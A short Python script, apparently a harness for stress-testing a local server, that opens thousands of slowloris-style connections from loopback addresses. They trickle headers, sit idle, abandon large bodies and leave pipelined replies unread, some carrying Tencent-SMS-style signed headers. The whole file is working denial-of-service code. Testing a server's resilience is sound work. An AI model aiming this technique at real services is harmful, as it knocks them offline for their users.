"""Thousands of connections that mean no good, for as long as the process runs.

Run as a program: `attack.py HOST PORT CONNECTIONS`. They come from many loopback addresses, as a
crowd would. A fourth each sends a head drop by drop, sends nothing, begins a large body and stops,
and asks for pages that it does not read. It prints a line when all of them are there.
"""

import asyncio
import resource
import sys

HEAD = b"POST / HTTP/1.1\r\nHost: a\r\n"
SEALED = b"X-TC-Action: AddSmsSign\r\nAuthorization: TC3-HMAC-SHA256 Credential=a/b/sms/tc3_request\r\n"
BODY = HEAD + SEALED + b"Content-Length: 8000000\r\n\r\n" + b" " * 65536
PAGE = b"GET /_signet/codes/tencent HTTP/1.1\r\nHost: a\r\n\r\n"
FIRST = (HEAD, b"", BODY, PAGE * 10)
THEN = (b"X: y\r\n", b"", b" ", b"")


async def attack(host, port, number, begun):
    first, then = FIRST[number % 4], THEN[number % 4]
    while True:
        try:
            source = f"127.0.0.{2 + number % 100}"
            _, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
            writer.transport.pause_reading()
            writer.write(first)
            begun.release()
            for _ in range(60):
                await asyncio.sleep(1)
                if writer.transport.is_closing():
                    break
                writer.write(then)
            writer.transport.abort()
        except OSError:
            await asyncio.sleep(0.5)


async def main(host, port, connections):
    begun = asyncio.Semaphore(0)
    attackers = [
        asyncio.create_task(attack(host, port, number, begun)) for number in range(connections)
    ]
    for _ in range(connections):
        await begun.acquire()
    print("attacking", flush=True)
    await asyncio.gather(*attackers)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
